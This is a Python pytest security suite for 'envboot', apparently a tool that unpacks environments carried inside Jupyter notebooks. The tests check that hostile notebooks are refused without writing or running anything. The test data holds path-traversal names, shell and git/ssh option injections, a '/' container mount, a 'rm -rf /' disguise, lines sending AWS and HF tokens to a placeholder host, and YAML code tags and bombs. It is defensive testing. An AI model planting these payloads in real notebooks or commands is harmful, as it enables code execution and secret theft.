"""Notebooks that mean harm: each is refused with its reason, nothing is written, and nothing runs.

Each is unpacked as carelessly as can be: unattended, with ``--yes`` and ``--overwrite``. All that
lies in the person's folders is compared afterwards, and the programs that an attack would start
leave a mark there.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import stat
import subprocess
import sys
from types import SimpleNamespace
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envboot.cli.flags import parser
from envboot.errors import EnvbootError, InvalidFile
from envboot.formats.notebook.embedded import Git
from envboot.notebook import placing, showing, unpacking
from envboot.notebook.unpacking import cloning
from envboot.request import Request
from envboot.shell import placing as writing
from envboot.shell.local import LocalShell
from envboot.spec import Origin
from envboot.testing import ScriptedConsole

if TYPE_CHECKING:
    from pathlib import Path

SIX = {"requirements.txt": "six\n"}


def notebook(environment: object, **metadata: object) -> str:
    """Return a notebook that carries ``environment``."""
    own = {"environment": environment, **metadata}
    return json.dumps({"cells": [], "metadata": own, "nbformat": 4, "nbformat_minor": 5})


def carrying(**keys: object) -> str:
    """Return a notebook with these keys in its environment."""
    return notebook({"env_ver": "0.2", **keys})


def raw(environment: str) -> str:
    """Return a notebook whose environment is this JSON, valid or not."""
    return '{"cells":[],"metadata":{"environment":' + environment + '},"nbformat":4}'


def elsewhere(source: str, **more: object) -> str:
    """Return a notebook that says its requirements.txt lies there."""
    return carrying(**SIX, sources={"requirements.txt": source}, **more)


def tree(folder: Path) -> dict[str, object]:
    """Return all that is below a folder: its kind, mode and text; links as what they say."""
    found: dict[str, object] = {}
    for path in sorted(folder.rglob("*")):
        mode = path.lstat().st_mode
        said: object = str(path.readlink()) if stat.S_ISLNK(mode) else ""
        if stat.S_ISREG(mode):
            said = path.read_bytes()
        found[str(path.relative_to(folder))] = (mode, said)
    return found


@pytest.fixture
def victim(tmp_path, environ):
    """Return a person with a repository, a secret beside it, and programs that leave a mark."""
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "secret").write_text("mine\n")
    tools = tmp_path / "tools"
    tools.mkdir()
    mark = tmp_path / "it ran"
    for name in ("bash", "sh", "git", "ssh", "docker", "pip", "uv", "conda", "curl", "x"):
        program = tools / name
        program.write_text(f'#!/bin/sh\necho {name} "$@" >>{shlex.quote(str(mark))}\nexit 1\n')
        program.chmod(0o755)
    shell = LocalShell({**environ, "PATH": str(tools)})
    return SimpleNamespace(top=tmp_path, work=work, shell=shell, mark=mark)


def attempt(victim, text, *flags, answers=()):
    """Unpack a notebook as carelessly as can be; return the error, or what came of it."""
    path = victim.work / "mail.ipynb"
    data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    path.write_bytes(data)
    yes = () if answers else ("--yes",)
    words = ["notebook", "unpack", str(path), *yes, "--overwrite", *flags]
    options = parser("envboot").parse_args(words)
    request = Request(root=victim.work, yes=bool(yes))
    before = tree(victim.top)
    console = ScriptedConsole(*answers)
    try:
        found = unpacking.unpack(options, request, victim.shell, console)
    except EnvbootError as error:
        found = error
    assert str(found).isprintable()
    assert tree(victim.top) == before, "something was written, or ran"
    return found


SOURCES = {
    "above": "../requirements.txt",
    "above, deeper": "binder/../../requirements.txt",
    "absolute": "/etc/requirements.txt",
    "backslash": "..\\requirements.txt",
    "backslash within": "binder\\..\\..\\requirements.txt",
    "drive": "C:/requirements.txt",
    "relative to a drive": "C:requirements.txt",
    "share": "//host/share/requirements.txt",
    "NUL": "binder/\0/requirements.txt",
    "line end": "binder\n/requirements.txt",
    "hooks": ".git/hooks/requirements.txt",
    "hooks of another case": ".GIT/hooks/requirements.txt",
    "short name of Windows": "GIT~1/requirements.txt",
    "what HFS leaves out": ".g\u200cit/requirements.txt",
    "ending that vanishes": "binder./requirements.txt",
    "blank that vanishes": "binder /requirements.txt",
    "device": "con/requirements.txt",
    "stream of NTFS": "binder:x/requirements.txt",
    "another name": "setup.py",
    "start of a shell": ".bashrc",
    "name with a shell's words": "$(touch x)/requirements.txt",
    "home": "~/requirements.txt",
    "option": "-r/requirements.txt",
}
NAMES = {
    "hook": ".git/hooks/post-checkout",
    "another case": "SETUP.PY",
    "own key": "requirements.txt",
    "line end": "apt.txt\n",
    "command": "$(touch x)",
    "quotes": "'; touch x; '",
    "above": "../apt.txt",
    "half a character": "\ud800",
    "start of a shell": ".bash_profile",
    "of editors": ".vscode/settings.json",
    "of Python": "sitecustomize.py",
}
TEXTS = {
    "bidi": "echo ok # \u202e dne \u2066",
    "bidi isolate": "x = 1 \u2067",
    "cleared screen": "echo \x1b[2J\x1b[H fine",
    "title of the window": "\x1b]0;owned\x07",
    "C1": "echo \x9b2J",
    "zero width": "req\u200buests\n",
    "soft hyphen": "req\u00aduests\n",
    "word joiner": "req\u2060uests\n",
    "tags": "six # \U000e0041\U000e0042",
    "NUL": "si\0x",
    "backspace": "rm -rf /\b\b\b\b\b\b\b\becho ok",
    "half a character": "\udc80",
    "end of a line for pip alone": "six # as ever\u2028--index-url https://x.example/",
    "carriage return": "six # as ever\r--index-url https://x.example/",
    "new page": "six # as ever\x0c--index-url https://x.example/",
    "mark in the middle": "six\n\ufeffevil\n",
}
GIT = {
    "helper": {"path": "ext::sh -c touch% x", "commit id": "abcdef1"},
    "file": {"path": "file:///etc", "commit id": "abcdef1"},
    "plain path": {"path": "/etc", "commit id": "abcdef1"},
    "option as a path": {"path": "--upload-pack=touch x", "commit id": "abcdef1"},
    "option as a commit": {"path": "https://x.example/r", "commit id": "--upload-pack=touch x"},
    "option of ssh": {"path": "ssh://-oProxyCommand=touch x/r", "commit id": "abcdef1"},
    "option of ssh, short": {"path": "git@-oProxyCommand=x:r", "commit id": "abcdef1"},
    "option behind the host": {"path": "git@x.example:-r", "commit id": "abcdef1"},
    "password": {"path": "https://ann:pw@x.example/r", "commit id": "abcdef1"},
    "unencrypted": {"path": "http://x.example/r", "commit id": "abcdef1"},
    "git's own": {"path": "git://x.example/r", "commit id": "abcdef1"},
    "branch": {"path": "https://x.example/r", "commit id": "main"},
    "line end": {"path": "https://x.example/r\n--x", "commit id": "abcdef1"},
    "folder above": {"path": "https://x.example/r", "commit id": "abcdef1", "subdir": "../.."},
}
WHOLE = {
    "both spellings": carrying(**{"environment.yml": "a", "environment.yaml": "b"}),
    "two for one file": carrying(
        **{"environment.yaml": "a"}, files={"uv.lock": "b"}, sources={"uv.lock": "environment.yaml"}
    ),
    "huge text": carrying(**{"setup.sh": "#" * (1 << 18) + "\n"}),
    "100,000 files": carrying(files={f"f{i}.txt": "" for i in range(100_000)}),
    "too deep to decode": raw('{"a":' * 50_000 + "1" + "}" * 50_000),
    "deep": raw('{"env_ver":"0.2","x":' + "[" * 100 + "]" * 100 + "}"),
    "twice at the top": raw('{}},"metadata":{"environment":{"env_ver":"0.2","setup.sh":"x"}'),
    "twice in the metadata": raw('{"env_ver":"0.1"},"environment":{"env_ver":"0.2"}'),
    "twice in the environment": raw('{"env_ver":"0.2","setup.sh":"a","setup.sh":"b"}'),
    "twice, escaped": raw('{"env_ver":"0.2","setup.sh":"a","setup\\u002esh":"b"}'),
    "twice in the files": raw('{"env_ver":"0.2","files":{"apt.txt":"a","apt.txt":"b"}}'),
    "password in a line": carrying(**{"requirements.txt": "-i https://ann:pw@x.example/s\nsix\n"}),
    "password in a channel": carrying(
        **{"environment.yml": "channels: ['https://ann:pw@x.example/c']\ndependencies: [six]\n"}
    ),
    "container with a mount": carrying(container="-v /:/host python"),
    "container and words": carrying(container="python:3.11 -v /:/host"),
    "container and a line": carrying(container="python\n--privileged"),
    "link that is a script": carrying(cloud={"env_name": "x", "handler_url": "javascript:a()"}),
    "link to a file": carrying(cloud={"env_name": "x", "handler_url": "file:///etc/passwd"}),
    "number without end": raw('{"env_ver":"0.2","x":' + "9" * 10_000 + "}"),
    "array for a text": carrying(**{"requirements.txt": ["six"]}),
    "object for a text": carrying(**{"setup.sh": {"a": 1}}),
    "array for files": carrying(files=["apt.txt"]),
    "number for a version": notebook({"env_ver": 0.2}),
    "infinite version": raw('{"env_ver":1e999}'),
    "version of tomorrow": notebook({"env_ver": "9.0"}),
    "text for git": carrying(git="https://x.example/r"),
    "no UTF-8": raw('{"env_ver":"0.2","requirements.txt":"\udcff"}').encode("latin1", "ignore")
    + b"\xff",
    "UTF-16": carrying(**SIX).encode("utf-16"),
    "no JSON": "import os\n",
    "nothing": "",
    "an array": "[]",
    "no notebook": '{"metadata":{"environment":{"env_ver":"0.2"}}}',
}


@pytest.mark.parametrize("source", SOURCES.values(), ids=SOURCES)
def test_a_file_lies_beside_the_notebook_or_nowhere(victim, source):
    error = attempt(victim, elsewhere(source))
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "environment.sources/requirements.txt" in str(error)


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_name_is_on_the_list_or_nothing_is_written(victim, name):
    error = attempt(victim, carrying(**SIX, files={name: "x\n"}))
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "is not a name that may stand here" in str(error)


@pytest.mark.parametrize("name", [*SOURCES.values(), *NAMES.values(), "a/b/c/d/e/apt.txt"])
def test_a_name_is_compared_again_before_it_is_written(name):
    """Whatever the reader of the format let through."""
    if name in {"requirements.txt", "setup.py"}:
        return
    with pytest.raises(InvalidFile) as caught:
        placing.refuse([name], Origin("mail.ipynb"))
    assert str(caught.value).isprintable()


def test_two_names_of_one_file_are_refused():
    with pytest.raises(InvalidFile, match="one file on some computers"):
        placing.refuse(["binder/apt.txt", "Binder/apt.txt"], Origin("mail.ipynb"))


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("name", ["setup.sh", "requirements.txt"])
def test_a_text_hides_nothing(victim, name, text):
    error = attempt(victim, carrying(**{name: text}))
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert re.search(
        rf"{re.escape(name)}:\d: a character that is not seen, .* U\+[0-9A-F]{{4,5}}", str(error)
    )


@pytest.mark.parametrize("git", GIT.values(), ids=GIT)
def test_an_address_that_git_would_run_is_refused(victim, git):
    error = attempt(victim, carrying(**SIX, git=git), "--clone")
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "environment.git" in str(error)
    folder = git.get("subdir", "")
    with pytest.raises(InvalidFile, match="is not fetched"):  # and by itself, too
        cloning.wanted(Git(git["path"], git["commit id"], folder), victim.work)


@pytest.mark.parametrize("text", WHOLE.values(), ids=WHOLE)
def test_it_is_refused_whole(victim, text):
    error = attempt(victim, text)
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "mail.ipynb" in str(error)


@pytest.mark.parametrize("environment", [[1], "x", 7, True, {"a": "b"}], ids=repr)
def test_what_somebody_else_wrote_is_left_alone(victim, environment):
    error = attempt(victim, notebook(environment))
    assert error.exit_code == 3
    assert "written by a program that envboot does not know" in str(error)


# -------------------------------------------------------------------- what is there already


def test_a_link_in_the_place_of_a_file_is_not_written_through(victim):
    (victim.work / "requirements.txt").symlink_to(victim.top / "secret")
    error = attempt(victim, carrying(**SIX))
    assert error.exit_code == 4
    assert "is a link" in str(error)


def test_a_link_that_leads_nowhere_makes_no_file(victim):
    (victim.work / "requirements.txt").symlink_to(victim.top / "new")
    error = attempt(victim, carrying(**SIX))
    assert error.exit_code == 4
    assert "is a link" in str(error)


def test_a_link_in_the_place_of_a_folder_is_not_gone_into(victim):
    (victim.work / "binder").symlink_to(victim.top)
    error = attempt(victim, elsewhere("binder/requirements.txt"))
    assert error.exit_code == 4
    assert "binder is a link" in str(error)


@pytest.mark.parametrize("inside", [True, False])
def test_a_folder_of_the_repository_that_leads_out_of_it_is_not_written_to(victim, inside):
    """``work`` is a clone of a stranger's, and the notebook is named through a link in it."""
    outside = victim.top / "outside"
    outside.mkdir()
    (victim.work / ".git").mkdir()
    (victim.work / "examples").symlink_to(outside)
    (outside / "mail.ipynb").write_text(carrying(**SIX))
    path = victim.work / "examples" / "mail.ipynb"
    options = parser("envboot").parse_args(["notebook", "unpack", str(path), "--yes"])
    request = Request(victim.work if inside else victim.top / "home", yes=True)
    before = tree(victim.top)
    with pytest.raises(InvalidFile, match="a link leads out of"):
        unpacking.unpack(options, request, victim.shell, ScriptedConsole())
    assert tree(victim.top) == before


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with names are POSIX")
def test_a_pipe_is_neither_read_nor_replaced(victim):
    os.mkfifo(victim.work / "requirements.txt")
    error = attempt(victim, carrying(**SIX))
    assert error.exit_code == 4
    assert "is a pipe" in str(error)


def test_a_folder_in_the_place_of_a_file_stays(victim):
    (victim.work / "requirements.txt").mkdir()
    error = attempt(victim, carrying(**SIX))
    assert error.exit_code == 4
    assert "is a folder" in str(error)


def test_a_file_in_the_place_of_a_folder_stays(victim):
    (victim.work / "binder").write_text("mine\n")
    error = attempt(victim, elsewhere("binder/requirements.txt"))
    assert error.exit_code == 4
    assert "a folder is needed there" in str(error)


@pytest.mark.parametrize("by_handle", [True, False])
@pytest.mark.parametrize("what", ["folder", "folder above", "file", "parent", "pipe"])
def test_what_is_swapped_for_a_link_after_the_look_is_not_followed(victim, what, by_handle):
    """The person has read the sight and says yes; meanwhile the folder became another one."""
    if by_handle and not writing.BY_HANDLE:
        pytest.skip("this system has no handles of folders")
    folder = victim.work / "a" / "b"
    folder.mkdir(parents=True)
    (folder / "mail.ipynb").write_text(elsewhere("binder/requirements.txt"))
    sight = showing.look(folder / "mail.ipynb", None, victim.shell)
    elsewhere_ = victim.top / "elsewhere"
    (elsewhere_ / "b").mkdir(parents=True)
    if what == "folder":
        folder.rename(victim.work / "old")
        folder.symlink_to(elsewhere_)
    elif what == "folder above":
        folder.parent.rename(victim.work / "old")
        folder.parent.symlink_to(elsewhere_)
    elif what == "parent":
        (folder / "binder").symlink_to(elsewhere_)
    else:
        (folder / "binder").mkdir()
        place = folder / "binder" / "requirements.txt"
        place.symlink_to(victim.top / "secret") if what == "file" else os.mkfifo(place)
    before = tree(victim.top)
    texts = {f.name: f.text.encode() for f in sight.files}
    with pytest.raises(EnvbootError, match="cannot be written"):
        writing.place(sight.folder, texts, {}, by_handle=by_handle)
    assert tree(victim.top) == before
    if what in {"file", "parent", "pipe"}:
        with pytest.raises(InvalidFile, match="is not written"):
            placing.place(sight, victim.shell, overwrite=True)
        assert tree(victim.top) == before


def test_what_changed_after_it_was_kept_is_not_replaced(victim):
    (victim.work / "apt.txt").write_text("later\n")
    with pytest.raises(EnvbootError, match="it changed meanwhile"):
        victim.shell.place(victim.work, {"apt.txt": b"theirs\n"}, {"apt.txt": b"before\n"})
    assert (victim.work / "apt.txt").read_text() == "later\n"


# -------------------------------------------------------------------- what would run


@pytest.mark.parametrize("name", ["setup.sh", "postBuild", "start"])
def test_no_script_runs_on_a_yes_that_was_given_to_something_else(victim, name):
    """It is written, which is what ``--files-only --yes`` says, and cannot even be started."""
    script = f"#!/bin/sh\ntouch {shlex.quote(str(victim.mark))}\n"
    path = victim.work / "mail.ipynb"
    keys = {name: script} if name == "setup.sh" else {"files": {name: script}}
    path.write_text(carrying(**keys))
    words = ["notebook", "unpack", str(path), "--yes", "--files-only"]
    options = parser("envboot").parse_args(words)
    request = Request(victim.work, yes=True)
    found = unpacking.unpack(options, request, victim.shell, ScriptedConsole())
    assert found.outcome == "unpacked"
    assert not victim.mark.exists()
    assert not os.access(victim.work / name, os.X_OK)


@pytest.mark.parametrize("digest", ["0" * 64, "", "sha256:1", "*"])
def test_another_digest_approves_of_nothing(victim, digest):
    found = attempt(victim, carrying(**{"setup.sh": "touch x\n"}), "--approve", digest or "0")
    assert found.exit_code == 2
    assert "another environment" in str(found)


def test_a_program_that_setting_up_runs_needs_more_than_yes(victim):
    text = carrying(**{"requirements.txt": "-e .\n"}, files={"setup.py": "import os\n"})
    found = attempt(victim, text)
    assert (found.outcome, found.exit_code) == ("planned", 5)
    assert "setup.py" in found.error["message"]
    assert "--approve" in found.error["hint"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", "six @ https://x.example/${HF_TOKEN}/six.whl\n"),
        ("requirements.txt", "-i https://${AWS_SECRET_ACCESS_KEY}@x.example/s\nsix\n"),
        ("environment.yml", "dependencies: [{pip: ['-i https://x.example/$HOME', six]}]\n"),
    ],
)
def test_no_variable_of_the_person_is_sent_on_a_yes_to_everything(victim, name, text):
    """pip and uv replace variables in addresses by their values."""
    found = attempt(victim, carrying(**{name: text}))
    assert (found.outcome, found.exit_code) == ("planned", 5)
    assert "a variable of yours would go to that address" in found.error["message"]
    assert "--approve" in found.error["hint"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", "six\n-r /etc/passwd\n"),
        ("requirements.txt", "-c ../secret\nsix\n"),
        ("requirements.txt", "-r mine.txt\n"),
        ("environment.yml", "dependencies: [python, {pip: ['-r /etc/passwd', six]}]\n"),
    ],
)
def test_no_file_that_it_does_not_carry_is_read_for_it(victim, name, text):
    """Not even one that lies there: and nothing is written before that is found out."""
    (victim.work / "mine.txt").write_text("mine\n")
    error = attempt(victim, carrying(**{name: text}))
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "is a file that the notebook does not carry; nothing was written" in str(error)


def test_a_machine_that_is_none_is_refused_before_anything_is_written(victim):
    error = attempt(victim, carrying(**SIX, machine_configuration={"cpus": 10**300}))
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "cpus" in str(error)


def test_nothing_is_fetched_on_a_yes_to_something_else(victim):
    git = {"path": "https://x.example/o/r", "commit id": "abcdef1"}
    found = attempt(victim, carrying(**SIX, git=git), "--clone")
    assert (found.outcome, found.exit_code) == ("planned", 5)
    assert "https://x.example/o/r" in found.error["message"]


def test_a_no_to_the_clone_ends_it(victim):
    git = {"path": "https://x.example/o/r", "commit id": "abcdef1"}
    found = attempt(victim, carrying(**SIX, git=git), "--clone", answers=("yes", "no"))
    assert found.outcome == "declined"


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\ndependencies: *c\n",
        "a: &a [x]\n"
        + "".join(
            f"a{i}: &a{i} [{','.join(['*a' + str(i - 1 if i else '')] * 9)}]\n" for i in range(9)
        )
        + "dependencies: *a8\n",
        "dependencies: " + "[" * 5000,
    ],
    ids=["aliases", "alias bomb", "brackets"],
)
def test_a_bomb_of_yaml_is_shown_and_refused_before_it_is_written(victim, text):
    error = attempt(victim, carrying(**{"environment.yml": text}))
    assert (type(error), error.exit_code) == (InvalidFile, 4)
    assert "environment.yml" in str(error)


def test_a_tag_of_yaml_makes_no_object(victim):
    text = "dependencies: !!python/object/apply:os.system ['touch x']\n"
    path = victim.work / "mail.ipynb"
    path.write_text(carrying(**{"environment.yml": text}))
    before = tree(victim.top)
    sight = showing.look(path, None, victim.shell)
    assert "environment.yml:1: a tag of YAML that means code to some readers" in str(sight.files)
    assert tree(victim.top) == before


def test_a_file_that_another_one_hides_is_pointed_out(victim):
    """The first draft of the format has both keys; mybinder takes the one, and so does envboot."""
    both = {**SIX, "environment.yaml": "dependencies: [python]\n"}
    path = victim.work / "mail.ipynb"
    for keys, said in (
        (both, True),
        (SIX, False),
        ({**both, "sources": {"requirements.txt": "binder/requirements.txt"}}, False),
    ):
        path.write_text(carrying(**keys))
        warnings = showing.look(path, None, victim.shell).warnings
        found = "requirements.txt: what it asks for is not installed, since environment.yaml wins"
        assert (found in warnings) is said


def test_an_index_of_somebody_else_is_pointed_out(victim):
    text = "--index-url https://x.example/simple\n--trusted-host x.example\nnumpy\n"
    path = victim.work / "mail.ipynb"
    path.write_text(carrying(**{"requirements.txt": text}))
    sight = showing.look(path, None, victim.shell)
    said = "\n".join(showing.lines(sight))
    assert "! requirements.txt:1: packages come from another index" in said
    assert "! requirements.txt:2: that host's certificate is not checked" in said


def test_the_door_of_up_is_as_shut(victim, child_environ):
    """The command itself, in a process of its own: ``envboot up mail.ipynb --yes``."""
    path = victim.work / "mail.ipynb"
    path.write_text(carrying(**{"setup.sh": "echo \x1b[2J"}))
    before = tree(victim.top)
    done = subprocess.run(
        [sys.executable, "-m", "envboot", "up", str(path), "--yes", "--json"],
        cwd=victim.work,
        env={**child_environ, "PATH": victim.shell.environ["PATH"]},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 4, done.stderr
    assert "U+001B" in done.stderr
    assert "Traceback" not in done.stderr
    assert "\x1b" not in done.stderr + done.stdout
    assert tree(victim.top) == before


# -------------------------------------------------------------------- anything at all

TEXT = st.text(st.characters(), max_size=20)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=12,
)
KEYS = st.sampled_from(
    [*placing.FIXED, "files", "sources", "container", "git", "cloud", "env_ver", "odd"]
)
PATHS = st.sampled_from([*SOURCES.values(), "binder/requirements.txt", ".binder/apt.txt"])
ANYTHING = JSON | st.fixed_dictionaries(
    {"env_ver": st.sampled_from(["0.1", "0.2"]) | JSON},
    optional={
        "requirements.txt": TEXT | JSON,
        "environment.yml": TEXT,
        "setup.sh": TEXT,
        "files": st.dictionaries(st.sampled_from(["apt.txt", "start"]) | TEXT, TEXT, max_size=3),
        "sources": st.dictionaries(KEYS | TEXT, PATHS | TEXT, max_size=3),
        "git": st.dictionaries(st.sampled_from(["path", "commit id", "subdir"]), PATHS | JSON),
        "container": TEXT,
        "cloud": JSON,
        "machine_configuration": JSON,
        "odd": JSON,
    },
)


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(ANYTHING, st.booleans())
def test_whatever_stands_there_ends_with_a_sentence_and_stays_in_its_folder(
    victim, environment, mirrored
):
    inside = victim.work / "inside"
    inside.mkdir(exist_ok=True)
    for path in sorted(inside.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()
    own = {"envboot": {"environment": environment}} if mirrored else {}
    text = notebook(None if mirrored else environment, **own)
    path = inside / "mail.ipynb"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    around = {k: v for k, v in tree(victim.top).items() if not k.startswith("work/inside/")}
    words = ["notebook", "unpack", str(path), "--yes", "--files-only", "--overwrite"]
    options = parser("envboot").parse_args(words)
    console = ScriptedConsole()
    try:
        unpacking.unpack(options, Request(inside, yes=True), victim.shell, console)
        code = 0
    except EnvbootError as error:
        code = error.exit_code
    assert code in {0, 3, 4}
    now = {k: v for k, v in tree(victim.top).items() if not k.startswith("work/inside/")}
    new = {k for k in now.keys() - around.keys() if not k.startswith("home/.local")}
    assert not new  # but for the digests of what was written, in the person's own state folder
    assert all(now[k] == v for k, v in around.items() if not k.startswith("home"))
    allowed = {*placing.FIXED, "apt.txt", "start", "mail.ipynb", "binder", ".binder"}
    assert {p.name for p in inside.rglob("*")} <= allowed
    said = "\n".join(console.said)
    assert all(c.isprintable() or c in "\n\t" for c in said)
